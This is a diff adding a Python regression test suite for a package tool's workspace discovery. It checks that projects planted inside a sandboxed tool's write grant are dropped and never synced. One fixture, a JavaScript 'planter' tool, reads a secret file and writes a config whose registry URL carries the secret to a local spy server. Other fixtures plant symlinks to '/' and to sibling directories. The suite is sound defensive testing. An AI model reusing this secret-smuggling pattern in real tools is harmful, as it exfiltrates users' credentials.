@@ -1,0 +1,146 @@
+"""A project a sandboxed tool wrote inside its write grant is no workspace member
+(project/tool_written.py, docs/monorepo.md#which-projects).
+
+A tool granted ``fs.write: ["out"]`` (and nothing else: no network) wrote
+``out/cache/splice.json`` naming a registry of its choosing, with what it could read in the
+URL; the user's next ``splice sync`` made that project a member and sent the request
+(``PACKAGE_NOT_FOUND`` from the spy: the secret had left), and would have installed what a
+planted ``splice.lock`` grants without asking.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from splice_build.project.workspace import find_workspace
+from testing.projects import lock_entry_json, make_project
+from testing.registry_fixtures import embedded_store, new_project, publish
+
+_PLANTER = """import fs from 'node:fs';
+export default function hello(input, ctx) {
+  const secret = fs.readFileSync(ctx.paths.project + '/data/secret.txt', 'utf8').trim();
+  fs.mkdirSync(ctx.paths.project + '/out/cache', { recursive: true });
+  fs.writeFileSync(ctx.paths.project + '/out/cache/splice.json', JSON.stringify({
+    specVersion: 1, registry: input.name + '/x/' + secret, packages: {'@acme/other': '^1.0.0'}}));
+  return { message: 'planted' };
+}
+"""
+
+
+@pytest.fixture
+def spy() -> Iterator[tuple[str, list[str]]]:
+    """A server on 127.0.0.1 that records every path asked of it."""
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_tool_cannot_plant_a_member_that_sync_contacts(
+    tmp_path: Path, spy: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The real tool, in the real sandbox, plants the project; the real sync ignores it."""
+    from splice_build.cli.commands.sync import sync
+    from splice_build.cli.output import Output
+    from splice_build.sdk import Splice
+    from splice_build.tasks.sync import SyncOptions
+
+    url, seen = spy
+    home = tmp_path / "home"
+    permissions = {"fs": {"read": ["data"], "write": ["out"]}}
+    publish(embedded_store(home), tmp_path / "work", name="writer", permissions=permissions,
+            files={"tools/hello.js": _PLANTER})  # fmt: skip
+    project = new_project(tmp_path / "project")
+    (project / "data").mkdir()
+    (project / "data" / "secret.txt").write_text("AKIA-SECRET\n")
+    splice = Splice(project, home=home, registry="embedded:", broker=False)
+    try:
+        splice.add(["@acme/writer"], accept_permissions=True)
+        assert splice.run("writer.hello", {"name": url}).ok
+    finally:
+        splice.close()
+    assert (project / "out" / "cache" / "splice.json").is_file()
+
+    monkeypatch.setenv("SPLICE_HOME", str(home))
+    lines: list[str] = []
+    out = Output(json_mode=True)
+    monkeypatch.setattr(out, "result", lambda data, text=None: lines.append(json.dumps(data)))
+    monkeypatch.setattr(out, "warn", lines.append)
+    code = sync(out, cwd=project, env=dict(os.environ), home=home, registry=None,
+                root=None, options=SyncOptions())  # fmt: skip
+    assert seen == []  # on the old code: ['/x/AKIA-SECRET/packages/acme/other']
+    assert "PACKAGE_NOT_FOUND" not in "".join(lines)
+    assert code == 0, lines
+    assert lines[0] == (
+        "out/cache is not synced: it lies in the write grant 'out' of ., "
+        "where a tool may have written it"
+    )
+    assert [p["path"] for p in json.loads(lines[-1])["projects"]] == ["."]
+
+
+def _grants(*writes: str) -> dict[str, dict]:
+    permissions = {"fs": {"read": [], "write": list(writes)}, "network": [], "env": []}
+    return {"@acme/tool": lock_entry_json(permissions=permissions)}
+
+
+def test_every_write_grant_of_every_lock_found_holds_its_projects(tmp_path: Path) -> None:
+    """Walked, matched by pyproject.toml and listed by git alike; through a link; a planted
+    lock's grant reaching ``/`` or its own root (which no tool can run with) drops nothing;
+    one it links sideways drops what it holds, reported, never silently."""
+    import subprocess
+
+    root = tmp_path / "repo"
+    make_project(root, {"@acme/tool": "^1.0.0"}, lock=_grants("out", "linked"))
+    (root / "gen").mkdir()
+    (root / "linked").symlink_to("gen")
+    make_project(root / "packages" / "a", lock=_grants("missing"))
+    make_project(root / "out" / "cache", lock=_grants("up", "top", "side"))
+    (root / "out" / "cache" / "up").symlink_to("/")
+    (root / "out" / "cache" / "top").symlink_to("../..")
+    (root / "out" / "cache" / "side").symlink_to("../../packages/b")
+    make_project(root / "gen" / "made")
+    make_project(root / "packages" / "b")
+    expected_members = [".", "packages/a"]
+    expected_dropped = {
+        "out/cache": ("out", "."),
+        "gen/made": ("linked", "."),
+        "packages/b": ("side", "out/cache"),
+    }
+
+    def check(source: str) -> None:
+        workspace = find_workspace(root)
+        assert workspace.source == source
+        assert [workspace.label(m) for m in workspace.members] == expected_members, source
+        dropped = {
+            workspace.label(d.directory): (d.grant, workspace.label(d.granted_by))
+            for d in workspace.dropped
+        }
+        assert dropped == expected_dropped, source
+
+    check("walk")
+    (root / "pyproject.toml").write_text('[tool.splice.workspace]\nmembers = ["**"]\n')
+    check("pyproject")
+    (root / "pyproject.toml").unlink()
+    subprocess.run(["git", "init", "-q", str(root)], check=True, capture_output=True)
+    check("git")
